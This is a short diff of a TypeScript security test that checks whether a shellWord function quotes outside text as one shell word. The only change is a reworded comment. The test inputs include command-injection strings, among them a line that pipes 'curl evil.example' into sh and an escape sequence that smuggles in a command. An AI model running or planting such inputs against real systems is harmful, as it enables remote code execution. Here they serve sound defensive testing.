@@ -37,7 +37,7 @@ test('security: text from outside is one word of the command, whatever it contai
   )
 })
 
-const page = '../../../services/gateway/operators/page/dom.js' // Not TypeScript.
+const page = '../../../services/gateway/operators/page/dom.js' // The page is JavaScript, so its type is declared here.
 const inConsole = (await import(page)) as { shellWord: (text: string) => string }
 
 test.each(['invoice.paid', "it's; id", 'a\u0003curl evil.example|sh', '\u001b[201~id\\', ''])(
